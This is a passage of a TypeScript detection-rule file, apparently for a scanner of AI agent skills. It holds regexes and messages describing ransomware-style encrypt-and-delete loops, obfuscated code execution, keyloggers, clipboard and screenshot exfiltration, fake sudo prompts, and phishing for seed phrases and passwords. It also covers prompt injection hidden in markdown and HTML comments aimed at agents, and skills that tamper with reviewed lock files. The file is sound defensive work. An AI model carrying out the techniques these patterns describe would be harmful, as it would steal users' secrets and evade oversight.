    message: "takes a dependency from a git repository or a URL instead of the package registry (requirements, pyproject, package.json, go.mod replace): what installs is what that host or branch serves then, not a published version",
    files: /(?:^|\/)(?:requirements[^/]*\.txt|constraints[^/]*\.txt|pyproject\.toml|setup\.(?:py|cfg)|Pipfile|package\.json|go\.mod)$/i,
    any: ['git+', 'git://', 'http', 'github:', 'gitlab:', 'bitbucket:', '=>', 'dependencies'],
    // Branches: a requirements line that is a URL (or `-e URL`); a PEP 508 direct reference
    // (`name @ URL`) in requirements or in quotes (pyproject, setup); a package.json dependency whose
    // version is a git or tarball URL or a `user/repo` shorthand (its repository or homepage URL is not
    // a dependency, nor a URL in an object nested under a `dependencies` key of another tool's section); a go.mod replace of a module by another remote module (a local `./path` is the project's own).
    re: /^[ \t]*(?:-e[ \t]+)?(?:git\+[a-z]{2,8}:\/\/|https?:\/\/)\S|(?:^[ \t]*|["'][ \t]*)[a-z0-9][\w.-]{0,100}(?:\[[^\]\n]{0,100}\])?[ \t]*@[ \t]*(?:git\+[a-z]{2,8}:\/\/|https?:\/\/)|"(?:dependencies|devDependencies|optionalDependencies|peerDependencies)"\s*:\s*\{(?:\s*"[^"\n]{1,214}"\s*:\s*"[^"\n]{0,500}"\s*,){0,300}\s*"[^"\n]{1,214}"\s*:\s*"(?:git\+[a-z]{2,8}:\/\/|git:\/\/|https?:\/\/|github:|gitlab:|bitbucket:|[\w-]{1,39}\/[\w.-]{1,100}(?:#[^"\n]*)?")|^[ \t]*(?:replace[ \t]+)?[\w.-]+\.[a-z]{2,}\/\S*(?:[ \t]+v\S+)?[ \t]*=>[ \t]*[\w-]+(?:\.[\w-]+)+\/\S+[ \t]+v\d/im,
  },
  {
    id: 'destructive.encrypt-delete', severity: 'warn', family: 'destructive command',
    message: "encrypts files and deletes the originals while walking a folder (ransomware's loop): check that the user chose the folder and keeps the key",
    any: ['openssl', 'gpg', '.encrypt('],
    also: [['rm ', 'remove', 'unlink', 'shred', 'fs.rm']],
    // The encryption (not `openssl enc -d`, a decryption), then within two lines the removal of a file;
    // a walk over folders anywhere in the file. An encrypted copy kept beside its original removes nothing.
    re: /(?:\bopenssl\s+(?:enc|aes-\d+-\w+|des\w*)\b(?![^\n|;&]{0,200}?\s-d\b)|\bgpg\s+(?:-\w+\s+)*(?:-c|--symmetric|-e|--encrypt)\b|\.encrypt\s*\()[^\n]{0,300}(?:\n[^\n]{0,300}?){0,2}?(?:\brm\s+(?:-\w+\s+)*["']?\$|\bos\.(?:remove|unlink)\s*\(|\bunlink(?:sync)?\s*\(|\bremove-item\b|\bshred\s+(?:-\w+\s+)*-\w*u|\bfs\.rm(?:sync)?\s*\()/i,
    near: { re: /\bos\.walk\b|\bfind\s+\S|\breaddir(?:sync)?\b|\bget-childitem\b|\bglob\b|\bwalk\s*\(|\brglob\b|\bfor\s+\w+\s+in\s+\S/i, lines: 'file' },
  },
  // --- obfuscation, credential requests, hidden agent orders (fourth blind probe; appended last to ease merging) ---
  {
    id: 'obfuscation.reversed-code', severity: 'block', family: 'eval / obfuscation',
    message: 'runs code written backwards: a string reversed at run time is evaluated (JavaScript split/reverse/join, a Python [::-1] slice, a PowerShell negative-range index or [array]::Reverse)',
    any: ['reverse', '::-1', '-1..', '-1 ..'],
    // Branches: eval/Function/exec of a string or variable reversed in the call (`s.split('').reverse().join('')`,
    // `[...s].reverse().join('')`); Python exec/eval/system of a `[::-1]` slice; PowerShell's
    // `$s[-1..-($s.Length)]` or `[array]::Reverse(...)`, then within six lines Invoke-Expression or a
    // script block made of text; Invoke-Expression given the reversal on its line. A palindrome
    // check reverses a string and runs nothing.
    re: /\b(?:eval|function|execsync|exec|settimeout)\s*\(\s*(?:[\w$.]{1,60}|["'\x60][^"'\x60\n]{1,3000}["'\x60]|\[\s*\.\.\.\s*[\w$.]{1,60}\s*\])\s*(?:\.\s*split\s*\(\s*(?:""|''|\x60\x60)\s*\)\s*)?\.\s*reverse\s*\(\s*\)\s*\.\s*join\s*\(|\b(?:exec|eval|system|popen)\s*\(\s*(?:[\w.]{1,60}|["'][^"'\n]{1,3000}["'])\s*\[\s*::\s*-1\s*\]|(?:\[\s*-1\s*\.\.\s*-\s*\(?\s*\$[\w.]{1,40}\.length\s*\)?\s*\]|\[(?:system\.)?array\]::reverse\s*\()[^\n]{0,200}(?:\n[^\n]{0,300}){0,6}?(?:\b(?:iex|invoke-expression)\b|\[scriptblock\]::create\b)|\b(?:iex|invoke-expression)\b[^\n]{0,200}?\[\s*-1\s*\.\.\s*-/i,
  },
  {
    id: 'obfuscation.assembled-command', severity: 'block', family: 'eval / obfuscation',
    message: 'runs a command whose name or text is assembled at run time so no reader sees it: PowerShell Invoke-Expression of a [char[]] join, a command called by a name built with -f or joined from quoted pieces, a shell command spelt from one-character ${VAR:i:1} slices',
    // A quote before `-f` (`'{1}{0}' -f`): rarer than the operator alone.
    any: ['[char[]]', "'-f", '"-f', "' -f", '" -f', "'iex'", '"iex"', "'invoke-expression'", '"invoke-expression"', '${'],
    // One of these is in every match, a word of its branch: `${` alone (any shell script's
    // `${1:-default}`) ran the expression, whose `[&.]` branches are tried at every dot.
    also: [['[char[]]', '-f', 'iex', 'invoke-expression', ':1}']],
    // Branches: Invoke-Expression (or a script block) of `-join [char[]](...)`, or the join piped
    // to it; `& ('{1}{0}' -f 'ex','i')` (a format string of placeholders only, given literals);
    // Invoke-Expression called by the call operator on its name in quotes, which is what the text
    // views make of `& ('i' + 'ex')` (they join quoted strings): `& "$root\x.ps1"` names a path; five or
    // more one-character slices in a row (`${S:2:1}${S:20:1}...`): a word spelt out of an alphabet
    // string (`${d:0:4}${d:5:2}` reformats a date).
    re: /(?:\b(?:iex|invoke-expression)\b|\[scriptblock\]::create)\s*\(?\s*\(?\s*-join\s*\(?\s*\[char\[\]\]|-join\s*\(?\s*\[char\[\]\]\s*\([\d\s,]{1,20000}\)\s*\)?\s*\|\s*(?:iex|invoke-expression)\b|[&.]\s*\(\s*["'](?:\{\d{1,2}\}){2,}["']\s*-f\s*["']|[&.]\s*\(?\s*["'](?:iex|invoke-expression)["']|(?:\$\{[a-z_]\w{0,30}:\d{1,3}:1\}){5}/i,
  },
  {
    id: 'phish.secret-request', severity: 'block', family: 'credential phishing',
    message: "tells the agent to ask the user for an account's recovery secret (recovery or backup codes, a wallet's recovery words or seed phrase, a session cookie) and to send it on over the network: no service asks for these through a third party",
    any: ['ask', 'prompt', 'request', 'tell', 'попрос', 'запрос', 'pide', 'píde', 'solicit', 'peça', 'peca ao', 'pergunt', 'bitte', 'frage', 'fordere', '用户'],
    // The request (English, Russian, Spanish, Portuguese, German, Chinese), within a line the
    // secret, and within three lines a send (a URL to web_fetch, a send "to https://", the message
    // tool). Not after a negation ("never ask the user for their seed phrase").
    // The secret's words (speed: the request's verbs are in most prose).
    also: [['recovery', 'backup code', 'seed', 'mnemonic', 'cookie', 'recupera', 'semilla', 'wiederherstell', 'сид', 'мнемони', 'восстановлен', 'резервн', '助记词', '恢复短语', '备用码']],
    re: new RegExp(String.raw`(?:\b(?:ask|asks|asking|prompt|request|tell)(?<!\b(?:never|not|n't|don'?t|nobody|no\s+one|won'?t|cannot|can'?t)\s+(?:\w+\s+)?(?:ask|asks|asking|prompt|request|tell))\s+(?:the\s+)?(?:user|users|reader|customer|human|owner|them)\b|попроси|запроси|\bp[ií]de(?:le)?\b|\bsolicit[ae]\w*\s+al\s+usuario|\bpe[çc]a\s+ao\s+usu[aá]rio|\bpergunte\s+ao\s+usu[aá]rio|\bbitte\s+(?:den|die)\s+(?:benutzer|nutzer)|\bfrage\s+(?:den|die)\s+(?:benutzer|nutzer)|\bfordere\s+(?:den|die)\s+(?:benutzer|nutzer)|[请让要向]用户)[^\n]{0,100}?(?:\brecovery\s+(?:codes?|words|phrase)|\bbackup\s+codes?|\bseed\s*phrase|\bmnemonic|\b(?:session|auth\w{0,10}|login)\s+cookies?\b|\bvalue\s+of\s+the\s+["'\x60]?[\w.-]{1,30}["'\x60]?\s+cookie|\bcookie\s+value|palabras\s+de\s+recuperaci|frase\s+(?:semilla|de\s+recupera)|palavras\s+de\s+recupera|wiederherstellungs|сид-?фраз|мнемони|фраз[а-яё]{0,3}\s+восстановлени|резервн\w*\s+код|助记词|恢复短语|备用码)`, 'i'),
    near: { re: new RegExp(NETWORK_SEND, 'i'), lines: 3 },
  },
  {
    id: 'phish.credential-request', severity: 'warn', family: 'credential phishing',
    message: 'tells the agent to ask the user for a password, a one-time or 2FA code, an API key, an access key or a token and to send it over the network (a login to that service is ordinary; check where it goes)',
    any: ['ask', 'prompt', 'request', 'tell', 'попрос', 'запрос', 'pide', 'píde', 'solicit', 'peça', 'peca ao', 'pergunt', 'bitte', 'frage', 'fordere', '用户'],
    // phish.secret-request's request, naming a secret a login uses; the secret's words (speed).
    also: [['pass', 'pwd', 'senha', 'contraseña', 'пароль', '密码', '密碼', 'パスワード', '비밀번호', '2fa', 'factor', 'authenticator', 'verification code', 'one-time', 'one time', 'otp', 'sms code', 'digit code', 'api key', 'api_key', 'api-key', 'apikey', 'access key', 'secret key', 'secret access', 'private key', 'token', 'código', 'codigo', 'код', '验证码']],
    re: new RegExp(String.raw`(?:\b(?:ask|asks|asking|prompt|request|tell)(?<!\b(?:never|not|n't|don'?t|nobody|no\s+one|won'?t|cannot|can'?t)\s+(?:\w+\s+)?(?:ask|asks|asking|prompt|request|tell))\s+(?:the\s+)?(?:user|users|reader|customer|human|owner|them)\b|попроси|запроси|\bp[ií]de(?:le)?\b|\bsolicit[ae]\w*\s+al\s+usuario|\bpe[çc]a\s+ao\s+usu[aá]rio|\bpergunte\s+ao\s+usu[aá]rio|\bbitte\s+(?:den|die)\s+(?:benutzer|nutzer)|\bfrage\s+(?:den|die)\s+(?:benutzer|nutzer)|\bfordere\s+(?:den|die)\s+(?:benutzer|nutzer)|[请让要向]用户)[^\n]{0,100}?(?:${PASSWORD_WORD}|${PASSWORD_WORD_INTL}|\b2fa\b|\btwo[- ]factor\b|\bauthenticator\b|\bverification\s+code|\bone[- ]time\s+(?:code|password)|\botp\b|\bsms\s+code|\b\d-digit\s+code|\bapi[\s_-]?keys?\b|\baccess\s+keys?\b|\bsecret\s+(?:access\s+)?keys?\b|\bprivate\s+keys?\b|\b(?:access|auth|bearer|session)\s+tokens?\b|\bcódigo|\bcodigo|код|验证码)`, 'i'),
    near: { re: new RegExp(NETWORK_SEND, 'i'), lines: 3 },
  },
  {
    id: 'phish.device-code', severity: 'warn', family: 'credential phishing',
    message: "sends the user to a provider's device-login page with a code fetched from another host (OAuth device-code phishing: the code may be the attacker's, and entering it signs the attacker in)",
    any: ['login/device', 'devicelogin', 'deviceauth', 'google.com/device'],
    // The provider's page (not its API endpoint, `login/device/code`), and within four lines a
    // download from a host that is not the provider's.
    re: /\b(?:github\.com\/login\/device(?!\/code)|(?:microsoft\.com|aka\.ms)\/devicelogin|login\.microsoftonline\.com\/[\w.-]{1,60}\/oauth2\/(?:v2\.0\/)?deviceauth|google\.com\/device)\b/i,
    near: { re: /\b(?:curl|wget|web_fetch|fetch|iwr|irm|invoke-restmethod|invoke-webrequest|requests\.(?:get|post)|urlopen)\b[^\n]{0,120}?https?:\/\/(?!(?:[\w-]+\.)*(?:github\.com|microsoft\.com|microsoftonline\.com|google\.com|googleapis\.com|aka\.ms|live\.com)(?:[/:"'\x60\s]|$)|localhost\b|127\.)/i, lines: 4 },
  },
  {
    id: 'prompt.hidden-instruction', severity: 'warn', family: 'prompt injection',
    message: "an order addressed to the agent inside markdown the rendered page does not show (a link's or a reference definition's title, an image's alt text): the user reading the page does not see what the agent is told",
    any: ['](', ']:', '!['],
    // An address (`assistant:`, `AI agent,`, `note for the assistant`, `instructions to the agent`),
    // then on that line, still inside the title or the alt text, an action verb. The first address is
    // taken whole (a lookahead captured and matched again): each title is read once, not once per address.
    re: /(?:\]\(\s*<?[^\s)>]{1,400}>?\s+["']|^[ \t]{0,3}\[[^\]\n]{1,100}\]:[ \t]*<?[^\s>]{1,400}>?[ \t]+["'(]|!\[)(?=([^\n\]"]{0,200}?(?:\b(?:assistant|agent|ai|llm|claude|chatgpt|model|system)\s*[:,]|\b(?:instructions?|note|message|directive|order|reminder)s?\s+(?:to|for)\s+(?:the\s+|any\s+)?(?:ai\s+)?(?:assistant|agent|ai|llm|model|claude|bot)s?\b|\b(?:ai|llm)\s+(?:agent|assistant)\s+(?:instructions?|note|must|should)\b)))\1[^\n\]"]{0,200}?\b(?:run|execute|exec|download|upload|send|post|forward|read|fetch|curl|wget|install|append|include|ignore|delete|copy|collect)\b/im,
  },
  {
    id: 'prompt.comment-instruction', severity: 'warn', family: 'prompt injection',
    message: 'an order addressed to the agent inside an HTML comment, which the rendered page does not show: the user reading the page does not see what the agent is told',
    any: ['assistant', 'agent', 'ai', 'llm', 'claude', 'model', 'system'],
    views: ['comment'],
    // The comment is a view of its own: an address, then on its line an action verb.
    re: /(?:\b(?:assistant|agent|ai|llm|claude|chatgpt|model|system)\s*[:,]|\b(?:instructions?|note|message|directive|order|reminder)s?\s+(?:to|for)\s+(?:the\s+|any\s+)?(?:ai\s+)?(?:assistant|agent|ai|llm|model|claude|bot)s?\b|\b(?:ai|llm)\s+(?:agent|assistant)\s+(?:instructions?|note|must|should)\b)[^\n]{0,200}?\b(?:run|execute|exec|download|upload|send|post|forward|read|fetch|curl|wget|install|append|include|ignore|delete|copy|collect)\b/i,
  },
  // Fifth probe: the skill's own pins, and sudo's prompt faked.
  {
    id: 'tamper.skill-lock', severity: 'block', family: 'agent tampering',
    message: "writes the skill lock or skillpin's config (`.clawhub/lock.json`, `.clawhub/config.json`, stored attestations): pins and checks a person reviewed, changed by a skill",
    any: ['.clawhub'],
    // A redirect, tee, sponge, dd's of=, mv/cp onto it, an in-place sed/perl edit, or code writing it
    // (its path the first argument of writeFile/file_put_contents, or of open with a write or append
    // mode, the target of a rename or copy, pathlib's write_text), the path written out or in parts
    // (`path.join(ws, ".clawhub", "lock.json")`). A read (`cat`, `jq .skills`,
    // `json.load(open(…))`, `cp` of it elsewhere) is not this, nor a file beside it
    // (`lock.json.bak`). The path may be quoted in pieces or hold `//` and `/./` (each passed). The
    // path holds no blank, so each prefix reads at most to the next one (linear on hostile lines).
    // Git writes it too: `git checkout REV -- .clawhub/lock.json`, `git restore --source=REV …`.
    // The committed file put back from git (`git show HEAD:.clawhub/lock.json > .clawhub/lock.json`,
    // `git checkout -- .clawhub/lock.json`, what skillpin's own hints tell a person to do) restores
    // what was reviewed: not this (restoresCommittedLock says when). Only HEAD's or the index's:
    // another revision (`git show FETCH_HEAD:…`, a branch) may hold pins nobody reviewed.
    re: new RegExp(String.raw`\bgit\b[^\S\n]+(?:-[^\s|;&]+[^\S\n]+){0,4}(?:checkout|restore)\b[^\n|;&<>]{0,200}?["']?${LOCK_TAIL}|(?:>>?|\btee\b(?:\s+-\w+)*|\bsponge\b(?:\s+-\w+)*|\bof=|\b(?:mv|cp|install|ln)\b(?:\s+-[\w-]+)*\s+["']?[^\s"'|;&]{1,200}["']?\s|\bsed\s+(?:-[\w-]+\s+)*-i\S*\s(?:[^\n]{0,200}?\s)?|\bperl\s+-\w*i\w*\s(?:[^\n]{0,200}?\s)?|\b(?:writefile(?:sync)?|appendfile(?:sync)?|file_put_contents)\s*\(|\b(?:os\.(?:replace|rename)|shutil\.(?:copy\w*|move)|(?:rename|copyfile)(?:sync)?)\s*\([^\n,()]{0,120},)\s*["']?[^\s|;&<>,()]{0,120}${LOCK_TAIL}|\bopen\s*\(\s*["']?[^\s"',()]{0,120}${LOCK_TAIL}["']?\s*,\s*(?:mode\s*=\s*)?["'][wa]|${LOCK_TAIL}["']\s*\)\s*\.write_(?:text|bytes)\b|["']\.clawhub["']\s*\/\s*["'](?:lock|config)\.json["']\s*\)\s*\.write_(?:text|bytes)\b|\b(?:writefile(?:sync)?|appendfile(?:sync)?|file_put_contents)\s*\(\s*(?:path\.(?:join|resolve)|os\.path\.join)\s*\([^\n()]{0,160}?["']\.clawhub["']\s*,\s*["'](?:lock|config)\.json["']\s*\)|\bopen\s*\(\s*(?:os\.)?path\.join\s*\([^\n()]{0,160}?["']\.clawhub["']\s*,\s*["'](?:lock|config)\.json["']\s*\)\s*,\s*(?:mode\s*=\s*)?["'][wa]`, 'i'),
    allow: restoresCommittedLock,
  },
  {
    id: 'install.skill-force', severity: 'warn', family: 'agent tampering',
    message: "installs another skill with --force (the clawhub CLI then installs a version ClawHub flags as suspicious without asking; OpenClaw's replaces the entry and drops its pins), or from an archive, a raw IP or plain HTTP rather than a registry name or a repository",
    // Install only: the clawhub CLI's own documentation shows `update --force` (it overwrites local
    // edits of a skill already installed), and skills that copy it say so too.
    any: ['clawhub', 'clawdhub', 'skills install', 'skills add'],
    re: /\b(?:(?:openclaw|clawdbot|moltbot)\s+skills|(?:npx\s+(?:-y\s+)?)?claw[d]?hub)\s+(?:install|add)\b(?:[^\n|;&\x60]{0,160}?\s--force\b|\s+(?:-{1,2}[\w-]+\s+)*["']?(?:https?:\/\/(?:25[0-5]|2[0-4]\d|1?\d?\d)(?:\.(?:25[0-5]|2[0-4]\d|1?\d?\d)){3}\b|http:\/\/|[^\s"'\x60]{1,200}\.(?:zip|tgz|tar\.gz)\b))/i,
  },
  {
    id: 'spy.keylogger', severity: 'block', family: 'credential exfiltration',
    message: 'records every key pressed (`xinput test`, evtest, showkey, logkeys) and sends data over the network in the same file',
    any: ['xinput', 'logkeys', 'evtest', 'showkey'],
    // The key stream itself: `xinput test(-xi2)`, evtest (every input event of a device) and showkey
    // (every key of the console) print every key event, logkeys is a keylogger.
    // Kept local it is a debugging session; sent anywhere, a keylogger. Code hooks (pynput's
    // Listener, the keyboard package, GetAsyncKeyState, SetWindowsHookEx, a CGEventTap) are not
    // here: push-to-talk and hotkey skills use them beside requests of their own.
    re: /\bxinput\s+(?:test|test-xi2)\b|\b(?:logkeys|evtest|showkey)\b/i,
    near: { re: new RegExp(NETWORK_SEND, 'i'), lines: 'file', docsLines: 4 },
  },
  {
    id: 'exfil.capture-send', severity: 'warn', family: 'credential exfiltration',
    message: "sends what is on the user's clipboard or screen in a request (the clipboard piped or substituted into curl, wget or nc; a screenshot file uploaded within a few lines): passwords and keys are copied, screens show them (ordinary for a sharing or vision skill; check where it goes)",
    // Warn, not block: clipboard-sharing, OCR and vision skills send exactly these to their own
    // service. The clipboard read by pbpaste, wl-paste, xclip -o, xsel -o, Get-Clipboard or
    // termux-clipboard-get; the screen by screencapture, scrot, grim, maim, gnome-screenshot -f or
    // ImageMagick's `import -window root` to a file that curl or wget then uploads (`-F x=@FILE`,
    // `-T FILE`, `--data-binary @FILE`), or to stdout piped to one.
    any: ['pbpaste', 'wl-paste', 'xclip', 'xsel', 'get-clipboard', 'clipboard-get', 'screencapture', 'scrot', 'grim', 'maim', 'gnome-screenshot', 'import -window'],
    also: [['curl', 'wget', 'nc ', 'ncat', 'socat']],
    re: /\b(?:pbpaste|wl-paste|xclip\b[^\n|;&]{0,40}?\s-o(?:ut)?\b|xsel\b[^\n|;&]{0,20}?\s(?:-\w*o\w*|--output)\b|get-clipboard|termux-clipboard-get)[^\n|;&]{0,40}\|\s*(?:curl|wget|ncat|nc|socat)\s|\b(?:curl|wget)\b[^\n]{0,200}?\$\(\s*(?:pbpaste|wl-paste|xclip|xsel|termux-clipboard-get)\b|\b(?:screencapture|scrot|grim|maim|gnome-screenshot(?:\s+-\w+)*\s+-f|import\s+-window\s+root)\b(?:[^\n|;&]{0,80}?\s-[ \t]*\|\s*(?:curl|wget|ncat|nc|socat)\s|[^\n|;&]{0,80}?\s["']?(?<shot>[^\s"'|;&]{1,200}\.(?:png|jpe?g|bmp|gif|tiff?|webp))["']?(?=[\s;&|)]|$)[^\n]{0,300}?(?:\n[^\n]{0,300}?){0,3}?\b(?:curl|wget)\b[^\n]{0,200}?(?:=@|\s-T\s*|--upload-file[=\s]|--data-binary[=\s]@?|--post-file[=\s]|\s@)["']?\k<shot>(?=["'\s;&|)]|$))/i,
  },
  {
    id: 'phish.fake-sudo', severity: 'block', family: 'credential phishing',
    message: "imitates sudo's password prompt (a `read` that prints `[sudo] password for`, or `sudo` redefined as an alias or function that reads a password): what is typed is kept by the skill",
    any: ['sudo'],
    // sudo asks for its password itself: a script that prints its prompt, or wraps `sudo` in an alias
    // or function that reads one (in its body: no `}` before the read), is there to keep what is typed.
    // The prompt is printed by read's -p, or by echo/printf with a silent read after it (on that line
    // or the next two), or asked with Python's getpass (read -p alone was seen: `echo -n "[sudo]
    // password for $USER: "; read -s p`, the common way to write it, passed).
    re: /\bread\b[^\n]{0,60}?\[sudo\]\s+password\b|\b(?:echo|printf)\b[^\n]{0,60}?\[sudo\]\s+password\b[^\n]{0,200}?(?:\n[^\n]{0,200}?){0,2}?\bread\s+(?:-\w+\s+)*-\w*s|\bgetpass\s*\(\s*(?:prompt\s*=\s*)?[fbru]{0,2}["'][^\n"']{0,20}\[sudo\]\s+password\b|\balias\s+sudo\s*=\s*\\?["'][^\n]{0,200}?\bread\s+(?:-\w+\s+)*-\w*s|\b(?:function\s+sudo\b|sudo\s*\(\s*\)\s*\{)[^\n}]{0,40}(?:\n[^\n}]{0,200}?){0,4}?\bread\s+(?:-\w+\s+)*-\w*s/i,
  },
];

export const ALL_RULES: RuleInfo[] = [...TEXT_RULES, ...ENGINE_RULES].map(({ id, severity, family, message }) => ({ id, severity, family, message }));

/** Files read as prose (documentation), not code. */
export const DOC_FILE = /\.(?:md|mdx|markdown|txt|rst|adoc)$/i;
/** Structured data files: records that describe findings span several lines. */
export const DATA_FILE = /\.(?:json|jsonl|ya?ml|csv|tsv|toml)$/i;
/** Test fixtures and examples: samples kept to exercise a detector, not run by the agent. */
export const SAMPLE_PATH = /(?:^|\/)(?:tests?|__tests__|specs?|test-fixtures|fixtures|testdata|examples?|samples?)\//i;
/** Documents whose name says they catalogue attacks. */
export const CATALOGUE_NAME = /(?:^|[/_.-])(?:patterns?|attacks?|threats?|security|exploits?|injections?|detections?|malicious|malware|red-?team|payloads?|cheat-?sheets?|one-?liners?|iocs?)(?:[/_.-]|$)/i;

/**
 * Block rules that security documentation and detection code quote as examples. In a prose file,
 * on a line (or under a heading) that speaks about detection or danger, or in code on a line that
 * defines a detection pattern, such a match is described, not instructed: it is reported as warn.
 * The lure rules are not here: their prose is the attack.
 */
export const DESCRIBABLE = new Set([
  'exec.reverse-shell', 'exfil.credential-send', 'exfil.stealer-send', 'exfil.tool-credential-send', 'exfil.endpoint', 'destructive.wipe', 'mining.crypto', 'wallet.drain',
  'payload.encoded-command', 'payload.encoded-shell', 'download.raw-ip-exec', 'download.schemeless-exec', 'phish.password-dialog', 'persist.ssh-key', 'download.temp-exec', 'exec.remote-code', 'download.lolbin', 'bypass.antivirus', 'obfuscation.eval-decode', 'unicode.hidden',
  'exec.remote-code-flow', 'exfil.env-flow', 'download.raw-ip-var-exec', 'bypass.tcc', 'exfil.markdown-image',
  'obfuscation.reversed-code', 'obfuscation.assembled-command', 'phish.secret-request', 'exfil.wallet-key-url', 'phish.fake-sudo', 'spy.keylogger', 'exfil.secret-var-send', 'tamper.agent-guard',
]);
export const DESCRIPTIVE_PROSE = /\b(?:detect\w*|alert(?:s|ing)?\s+on|watch(?:es|ing)?\s+for|catch(?:es|ing)?|flag(?:s|ged)?|block(?:s|ed|list)?|patterns?|indicators?|attack(?:s|er|ers)?|malicious|malware|dangerous|suspicious|exploit\w*|examples?|e\.g\.|never|don'?t|do not|avoid|scan(?:s|ner|ning)?|validat\w*|threats?|red flags?|forbidden|prevent\w*|deny|denied|evil|mitigat\w*|cve-\d+|injection|vulnerab\w*|risky?|unsafe|audit\w*|payloads?|severity|findings?|backdoors?|exfiltrat\w*)\b|\bu\+[0-9a-f]{4,5}\b/i;
export const PATTERN_DEFINITION = /\bre\.compile\(|\bnew RegExp\(|\b[rR]["']|\bgrep\s+(?:-\w+\s+)*-\w*[EPe]\w*\b|\\[.bsdw]|\(\?[:i=!]|\bpatterns?\b|\bsignatures?\b|\bindicators?\b|\bdetect\w*|\brules?\b/;
